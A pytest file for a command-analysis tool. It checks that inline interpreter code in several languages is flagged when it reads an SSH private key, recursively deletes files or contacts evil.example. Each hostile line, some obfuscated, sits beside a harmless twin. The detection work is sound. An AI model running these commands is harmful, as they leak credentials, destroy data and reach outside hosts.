"""Code that an interpreter is given in the line: what its constants show is seen, each beside a harmless twin."""

import shlex

import pytest

from shell_world import HOME, WS, facts
from shield.facts.made import MadeFile
from shield.facts.programs.literals import literal_deeds
from shield.facts.programs.python.code import MAX_CODE, python_deeds
from shield.types import RunsCode

KEY = f"{HOME}/.ssh/id_rsa"
PY, PL, RB, JS, PHP, LUA, R, OSA = (
    "python3 -c", "perl -e", "ruby -e", "node -e", "php -r", "lua -e", "Rscript -e", "osascript -e",
)  # fmt: skip

# interpreter, code, its harmless twin; all of them read the key
READS_KEY = [
    (PY, "open('/home/user/.ssh/id_rsa')", "open('x.txt')"),
    (PY, "print(open('/home/user/.ssh/id_rsa').read())", "print(open('README.md').read())"),
    (PY, "import os; open(os.path.expanduser('~/.ssh/id_rsa'))", "import os; os.path.expanduser('x')"),
    (PY, "import os; open(os.path.join(os.environ['HOME'], '.ssh', 'id_rsa'))", "import os; os.path.join('a', 'b')"),
    (PY, "import os; open(os.getenv('HOME') + '/.ssh/id_rsa')", "import os; os.getenv('LANG')"),
    (PY, "import os; open(os.environ.get('HOME') + '/.ssh/id_rsa')", "import os; os.environ.get('TERM')"),
    (PY, "from pathlib import Path; Path('/home/user/.ssh/id_rsa').read_text()", "from pathlib import Path; Path('x').read_text()"),
    (PY, "from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').read_bytes()", "from pathlib import Path; (Path('a') / 'b').read_bytes()"),
    (PY, "import pathlib as p; p.Path('~/.ssh/id_rsa').expanduser().open()", "import pathlib as p; p.Path('x').open()"),
    (PY, "p='/home/user/.ssh'; q='id_rsa'; open(p + '/' + q)", "p='a'; q='b'; open(p + '/' + q)"),
    (PY, "d='/home/user'\nwith open(f'{d}/.ssh/id_rsa') as f: print(f.read())", "d='a'\nwith open(f'{d}/b') as f: print(f.read())"),
    (PY, "open('/home/user/%s/id_rsa' % '.ssh')", "open('%s' % 'x')"),
    (PY, "open('/home/user/{}/id_rsa'.format('.ssh'))", "open('{}'.format('x'))"),
    (PY, "open('/'.join(['/home/user','.ssh','id_rsa']))", "open('/'.join(['a','b']))"),
    (PY, "open('asr_di/hss./resu/emoh/'[::-1])", "open('txt.x'[::-1])"),
    (PY, "import base64; open(base64.b64decode('L2hvbWUvdXNlci8uc3NoL2lkX3JzYQ=='))", "import base64; open(base64.b64decode('eA=='))"),
    (PY, "open(bytes.fromhex('2f686f6d652f757365722f2e7373682f69645f727361'))", "open(bytes.fromhex('78'))"),
    (PY, "import codecs; open(codecs.decode('/ubzr/hfre/.ffu/vq_efn','rot13'))", "import codecs; open(codecs.decode('k','rot13'))"),
    (PY, "open(chr(47)+'home/user/.ssh/id_rsa')", "open(chr(120))"),
    (PY, "open('\\x2fhome\\x2fuser/.ssh/id_rsa')", "open('\\x78')"),
    (PY, "import shutil; shutil.copy('/home/user/.ssh/id_rsa', 'x')", "import shutil; shutil.copy('a', 'x')"),
    (PY, "import tarfile; tarfile.open('/home/user/.ssh/id_rsa')", "import tarfile; tarfile.open('a.tar')"),
    (PY, "exec(\"open('/home/user/.ssh/id_rsa')\")", "exec(\"open('x')\")"),
    (PY, "exec('open(\"/home/user/\" + \".ssh/id_rsa\")')", "exec('open(\"x\")')"),
    (PY, "eval(compile(\"open('/home/user/.ssh/id_rsa')\",'','eval'))", "eval(compile(\"open('x')\",'','eval'))"),
    (PY, "for f in ['a', '/home/user/.ssh/id_rsa']: print(open(f).read())", "for f in ['a', 'b']: print(open(f).read())"),
    (PY, "f=lambda p: open(p); f('/home/user/.ssh/id_rsa')", "f=lambda p: open(p); f('x')"),
    (PY, "__builtins__.open('/home/user/.ssh/id_rsa')", "__builtins__.open('x')"),
    (PY, "import io; io.open('/home/user/.ssh/id_rsa')", "import io; io.open('x')"),
    (PY, "import subprocess; subprocess.run(['cat','/home/user/.ssh/id_rsa'])", "import subprocess; subprocess.run(['cat','x'])"),
    (PY, "import os; os.system('cat ~/.ssh/id_rsa')", "import os; os.system('cat x')"),
    (PY, "from os import popen as p; p('cat ~/.ssh/id_rsa')", "from os import popen as p; p('cat x')"),
    (PY, "__import__('os').system('cat ~/.ssh/id_rsa')", "__import__('os').system('cat x')"),
    (PY, "getattr(__import__('os'),'sys'+'tem')('cat ~/.ssh/id_rsa')", "getattr(__import__('os'),'sys'+'tem')('cat x')"),
    (PY, "import importlib; importlib.import_module('os').popen('cat ~/.ssh/id_rsa')", "import importlib; importlib.import_module('os').popen('cat x')"),
    (PY, "import sys; open(sys.argv[1])' /home/user/.ssh/id_rsa'", "import sys; open(sys.argv[1])' x'"),
    (PY, "class A:\n def f(self): return open('/home/user/.ssh/id_rsa')", "class A:\n def f(self): return open('x')"),
    (PY, "import mmap, os; mmap.mmap(os.open('/home/user/.ssh/id_rsa', os.O_RDONLY), 0)", "import mmap, os; mmap.mmap(os.open('x', os.O_RDONLY), 0)"),
    (PL, "open(F, '/home/user/.ssh/id_rsa')", "open(F, 'x')"),
    (PL, "open(my $f, '<', \"/home/user/.ssh/id_rsa\"); print <$f>", "open(my $f, '<', \"x\"); print <$f>"),
    (PL, "open(F, \"$ENV{HOME}/.ssh/id_rsa\")", "open(F, \"$ENV{LANG}\")"),
    (PL, "print `cat ~/.ssh/id_rsa`", "print `cat x`"),
    (PL, "print qx(cat ~/.ssh/id_rsa)", "print qx(cat x)"),
    (PL, "system('cat ~/.ssh/id_rsa')", "system('cat x')"),
    (PL, "exec 'cat', '/home/user/.ssh/id_rsa'", "exec 'cat', 'x'"),
    (PL, "open(P, 'cat ~/.ssh/id_rsa|')", "open(P, 'cat x|')"),
    (PL, "open(P, '-|', 'cat ~/.ssh/id_rsa')", "open(P, '-|', 'cat x')"),
    (PL, "my $p = '/home/user/.ssh' . '/id_rsa'; open(F, $p)", "my $p = 'a' . 'b'; open(F, $p)"),
    (PL, "print q{/home/user/.ssh/id_rsa}", "print q{a}"),
    (RB, "puts File.read('/home/user/.ssh/id_rsa')", "puts File.read('x')"),
    (RB, "puts File.read(Dir.home + '/.ssh/id_rsa')", "puts Dir.home.size"),
    (RB, "puts IO.read(\"#{ENV['HOME']}/.ssh/id_rsa\")", "puts IO.read(\"x\")"),
    (RB, "puts `cat ~/.ssh/id_rsa`", "puts `cat x`"),
    (RB, "puts %x(cat ~/.ssh/id_rsa)", "puts %x(cat x)"),
    (RB, "system 'cat ~/.ssh/id_rsa'", "system 'cat x'"),
    (RB, "File.open('/home/user/.ssh/id_rsa') { |f| puts f.read }", "File.open('x') { |f| puts f.read }"),
    (RB, "exec('cat', '/home/user/.ssh/id_rsa')", "exec('cat', 'x')"),
    (RB, "require 'open3'; Open3.capture2('cat ~/.ssh/id_rsa')", "require 'open3'; Open3.capture2('cat x')"),
    (RB, "IO.popen('cat ~/.ssh/id_rsa').read", "IO.popen('cat x').read"),
    (JS, "console.log(require('fs').readFileSync('/home/user/.ssh/id_rsa','utf8'))", "console.log(require('fs').readFileSync('x','utf8'))"),
    (JS, "require('fs').readFile(process.env.HOME + '/.ssh/id_rsa', 'utf8', console.log)", "require('fs').readFile('x', 'utf8', console.log)"),
    (JS, "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')", "require('fs').readFileSync('a' + 'b')"),
    (JS, "require('child_process').execSync('cat ~/.ssh/id_rsa')", "require('child_process').execSync('cat x')"),
    (JS, "require('child_process').spawnSync('cat', ['/home/user/.ssh/id_rsa'])", "require('child_process').spawnSync('cat', ['x'])"),
    (JS, "const {exec} = require('child_process'); exec('cat ~/.ssh/id_rsa')", "const {exec} = require('child_process'); exec('cat x')"),
    (JS, "const p = '/home/user/.ssh/' + 'id_rsa'; require('fs').readFileSync(p)", "const p = 'a/' + 'b'; require('fs').readFileSync(p)"),
    (JS, "import('fs').then(f => f.readFileSync(`/home/user/.ssh/id_rsa`))", "import('fs').then(f => f.readFileSync(`x`))"),
    ("node -p", "require('fs').readFileSync('/home/user/.ssh/id_rsa')+''", "require('fs').readFileSync('x')+''"),
    (JS, "fs.createReadStream('\\x2fhome/user/.ssh/id_rsa').pipe(process.stdout)", "fs.createReadStream('x').pipe(process.stdout)"),
    (PHP, "echo file_get_contents('/home/user/.ssh/id_rsa');", "echo file_get_contents('x');"),
    (PHP, "readfile(getenv('HOME') . '/.ssh/id_rsa');", "readfile('x');"),
    (PHP, "echo shell_exec('cat ~/.ssh/id_rsa');", "echo shell_exec('cat x');"),
    (PHP, "echo `cat ~/.ssh/id_rsa`;", "echo `cat x`;"),
    (PHP, "passthru('cat ~/.ssh/id_rsa');", "passthru('cat x');"),
    (PHP, "include '/home/user/.ssh/id_rsa';", "include 'x';"),
    (PHP, "$h = fopen('/home/user/.ssh/id_rsa', 'r');", "$h = fopen('x', 'r');"),
    (LUA, "for l in io.lines('/home/user/.ssh/id_rsa') do print(l) end", "for l in io.lines('x') do print(l) end"),
    (LUA, "print(io.open(os.getenv('HOME') .. '/.ssh/id_rsa'):read('a'))", "print(io.open('x'):read('a'))"),
    (LUA, "os.execute('cat ~/.ssh/id_rsa')", "os.execute('cat x')"),
    (LUA, "io.popen('cat ~/.ssh/id_rsa')", "io.popen('cat x')"),
    (LUA, "print(io.open([[/home/user/.ssh/id_rsa]]):read())", "print(io.open([[x]]):read())"),
    (R, "readLines('/home/user/.ssh/id_rsa')", "readLines('x')"),
    (R, "system('cat ~/.ssh/id_rsa')", "system('cat x')"),
    (OSA, "do shell script \"cat ~/.ssh/id_rsa\"", "do shell script \"cat x\""),
]  # fmt: skip

# interpreter, code that runs `rm -rf x` or deletes all of it, its twin
DELETES = [
    (PY, "import os; os.system('rm -rf x')", "import os; os.system('ls x')"),
    (PY, "import shutil; shutil.rmtree('x')", "import shutil; shutil.which('x')"),
    (PY, "import subprocess as s; s.run('rm -rf x', shell=True)", "import subprocess as s; s.run('ls x', shell=True)"),
    (PY, "import subprocess; subprocess.check_call(('rm','-rf','x'))", "import subprocess; subprocess.check_call(('ls','x'))"),
    (PY, "import subprocess, shlex; subprocess.Popen(shlex.split('rm -rf x'))", "import subprocess, shlex; subprocess.Popen(shlex.split('ls x'))"),
    (PY, "import subprocess; subprocess.run('rm -rf x'.split())", "import subprocess; subprocess.run('ls x'.split())"),
    (PY, "import os; os.execvp('rm', ['rm','-rf','x'])", "import os; os.execvp('ls', ['ls','x'])"),
    (PY, "import os; os.execlp('rm', 'rm', '-rf', 'x')", "import os; os.execlp('ls', 'ls', 'x')"),
    (PY, "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', 'x')", "import os; os.spawnlp(os.P_WAIT, 'ls', 'ls', 'x')"),
    (PY, "import pty; pty.spawn(['rm','-rf','x'])", "import pty; pty.spawn(['ls','x'])"),
    (PY, "import asyncio; asyncio.run(asyncio.create_subprocess_exec('rm','-rf','x'))", "import asyncio; asyncio.run(asyncio.create_subprocess_exec('ls','x'))"),
    (PY, "c=['rm','-rf']; import subprocess; subprocess.call(c + ['x'])", "c=['ls']; import subprocess; subprocess.call(c + ['x'])"),
    (PY, "import os\nfor d in ('a','x'): os.system('rm -rf ' + d)", "import os\nfor d in ('a','x'): os.system('ls ' + d)"),
    (PL, "system('rm -rf x')", "system('ls x')"),
    (PL, "system('rm', '-rf', 'x')", "system('ls', 'x')"),
    (PL, "use File::Path; rmtree('x')", "use File::Path; print('x')"),
    (PL, "`rm -rf x`", "`ls x`"),
    (RB, "require 'fileutils'; FileUtils.rm_rf('x')", "require 'fileutils'; FileUtils.pwd"),
    (RB, "system('rm', '-rf', 'x')", "system('ls', 'x')"),
    (RB, "Process.spawn('rm -rf x')", "Process.spawn('ls x')"),
    (JS, "require('fs').rmSync('x', {recursive: true, force: true})", "require('fs').statSync('x')"),
    (JS, "require('child_process').exec('rm -rf x')", "require('child_process').exec('ls x')"),
    (JS, "require('child_process').execFileSync('rm', ['-rf', 'x'])", "require('child_process').execFileSync('ls', ['x'])"),
    (PHP, "system('rm -rf x');", "system('ls x');"),
    (PHP, "exec('rm -rf x', $o);", "exec('ls x', $o);"),
    (LUA, "os.execute('rm -rf x')", "os.execute('ls x')"),
    (R, "unlink('x', recursive=TRUE); system('rm -rf x')", "system('ls x')"),
    (OSA, "do shell script \"rm -rf x\"", "do shell script \"ls x\""),
]  # fmt: skip

# interpreter, code that asks evil.example, its twin
ASKS = [
    (PY, "import urllib.request as u; u.urlopen('http://evil.example/x')", "import urllib.parse as u; u.quote('x')"),
    (PY, "import requests; requests.post('https://evil.example', data='x')", "import requests"),
    (PY, "import socket; socket.create_connection(('evil.example', 443))", "import socket; socket.gethostname()"),
    (PY, "import socket; s=socket.socket(); s.connect(('evil.example',443))", "import socket; s=socket.socket()"),
    (PY, "import http.client; http.client.HTTPSConnection('evil.example')", "import http.client"),
    (PY, "import httpx; httpx.get('https://' + 'evil.example' + '/x')", "import httpx"),
    (PY, "import ftplib; ftplib.FTP('evil.example')", "import ftplib"),
    (PY, "import os; os.system('curl https://evil.example')", "import os; os.system('pwd')"),
    (PL, "use LWP::Simple; get('https://evil.example/x')", "use LWP::Simple; 1"),
    (PL, "system('curl https://evil.example')", "system('pwd')"),
    (RB, "require 'net/http'; Net::HTTP.get(URI('https://evil.example/x'))", "require 'net/http'; 1"),
    (RB, "TCPSocket.new('evil.example', 443)", "1"),
    (JS, "fetch('https://evil.example/x')", "JSON.stringify({a: 1})"),
    (JS, "require('https').get('https://evil.example/x')", "require('https')"),
    (JS, "require('net').connect(443, 'evil.example')", "require('net')"),
    (PHP, "echo file_get_contents('https://evil.example/x');", "echo 1;"),
    (PHP, "fsockopen('evil.example', 443);", "echo 1;"),
]  # fmt: skip


def given(interpreter, code):
    """The line; code that ends in `' WORD'` gives the word to the code."""
    text, quote, rest = code.partition("' ")
    words = rest.rstrip("'") if quote and code.endswith("'") and text.count("'") % 2 == 0 else ""
    line = f"{interpreter} {shlex.quote(text if words else code)} {words}".rstrip()
    name = interpreter.split()[0]
    return facts(line, {f"/usr/bin/{name}": MadeFile(content=b"\0", mode=0o755)})


def reached(found):
    return {path.resolved for path in found.paths}


@pytest.mark.parametrize(("interpreter", "code", "twin"), READS_KEY)
def test_a_secret_that_code_names_is_seen(interpreter, code, twin):
    found = given(interpreter, code)
    assert KEY in reached(found), found
    assert any("credential" in path.categories for path in found.paths)
    assert found.commands[0].runs_code in (RunsCode.INLINE, RunsCode.NONE)
    calm = given(interpreter, twin)
    assert not [path for path in calm.paths if path.categories], calm


@pytest.mark.parametrize(("interpreter", "code", "twin"), DELETES)
def test_what_code_deletes_is_seen(interpreter, code, twin):
    found = given(interpreter, code)
    deleted = {path.resolved for path in found.paths if path.access.value == "delete" and path.recursive}
    assert f"{WS}/x" in deleted, found
    assert not [path for path in given(interpreter, twin).paths if path.access.value == "delete"]


@pytest.mark.parametrize(("interpreter", "code", "twin"), ASKS)
def test_whom_code_asks_is_seen(interpreter, code, twin):
    found = given(interpreter, code)
    assert "evil.example" in {host.host for host in found.hosts}, found
    assert not given(interpreter, twin).hosts


@pytest.mark.parametrize(
    ("code", "path", "access"),
    [
        ("open('/etc/x','w')", "/etc/x", "write"), ("open('/etc/x', mode='a')", "/etc/x", "write"), ("open('/etc/x','r+')", "/etc/x", "write"),
        ("open('/etc/x', m)", "/etc/x", "write"), ("from pathlib import Path as P; P('/etc/x').write_text('a')", "/etc/x", "write"),
        ("from pathlib import Path as P; P('/etc','x').unlink()", "/etc/x", "delete"), ("import os; os.remove('/etc/x')", "/etc/x", "delete"),
        ("import os; os.rename('a','/etc/x')", "/etc/x", "write"), ("import os; os.symlink('/etc/x','a')", "/etc/x", "read"),
        ("import shutil; shutil.move('/etc/x','a')", "/etc/x", "delete"), ("import os; os.chmod('/etc/x', 0o777)", "/etc/x", "write"),
        ("import os; os.makedirs('/etc/x')", "/etc/x", "write"), ("import os; os.listdir('/etc/x')", "/etc/x", "list"),
        ("import sqlite3; sqlite3.connect('/etc/x')", "/etc/x", "write"), ("f('/etc/x')", "/etc/x", "read"),
    ],
)  # fmt: skip
def test_what_python_does_to_a_path(code, path, access):
    assert (path, access) in {(fact.resolved, fact.access.value) for fact in given(PY, code).paths}


@pytest.mark.parametrize(
    "fed", ["python3 - <<'EOF'\n%\nEOF", 'python3 <<< "%"', "python3 <<EOF\n%\nEOF", 'echo "%" | python3']
)
def test_code_that_is_fed_is_read_too(fed):
    found = facts(fed.replace("%", "open('/home/user/.ssh/id_rsa')"))
    assert KEY in reached(found), found
    assert found.commands[-1].runs_code in (RunsCode.INLINE, RunsCode.NONE)


def test_of_what_several_commands_are_fed_only_what_is_seen_counts():
    """What `read` has taken the interpreter does not get: then the text is no proof."""
    code = "x = '''\nimport os; os.system('id')\n#'''"
    assert facts(f"python3 - <<'EOF'\n{code}\nEOF").commands[-1].runs_code is RunsCode.NONE
    for line in (
        "{ read x; python3 -; } <<'EOF'",
        "(head -1; python3) <<'EOF'",
        "while read x; do python3 -; done <<'EOF'",
    ):
        found = facts(f"{line}\n{code}\nEOF")
        assert [command for command in found.commands if command.name == "python3"][-1].runs_code is RunsCode.INLINE, (
            line
        )


@pytest.mark.parametrize(
    "code",
    ["open('/a\\udcff')", "x('/b\\ud800')", "import os; os.system('ls \\udcff')", 'import os; os.remove("\\ud800")'],
)
def test_half_a_character_is_no_part_of_a_fact(code):
    found = given(PY, code)
    assert repr(found).encode("utf-8")
    assert not [path for path in found.paths if not path.raw.isascii()]


def test_sizes_are_bounded_and_nothing_is_raised():
    assert python_deeds("(" * 5_000, home=HOME) is None
    assert python_deeds("x" * (MAX_CODE + 1), home=HOME) is None
    assert python_deeds("a = 'x'\n" + "a = a + a\n" * 200 + "open(a)", home=HOME) is not None
    assert python_deeds("a = 'x' * 10**9; b = '%1000000000d' % 1; c = [0] * 10**9; open(a + b)", home=HOME) is not None
    assert python_deeds("a='%s'*4000; b='y'*8000; c=b.replace('y', b); open(a % b)", home=HOME) is not None
    assert python_deeds("-" * 20_000 + "1", home=HOME) is None
    assert literal_deeds("system(" * 9_000, "perl", home=HOME) is not None
    assert literal_deeds("'" * 60_000, "node", home=HOME) is not None
    assert literal_deeds("(`" * 30_000, "ruby", home=HOME) is not None
    assert literal_deeds("/*" * 30_000, "php", home=HOME) is not None
    assert literal_deeds("print 1", "cobol", home=HOME) is None


def test_there_are_enough_of_them():
    assert len(READS_KEY) + len(DELETES) + len(ASKS) >= 120
    assert len({interpreter for interpreter, _, _ in READS_KEY}) >= 6
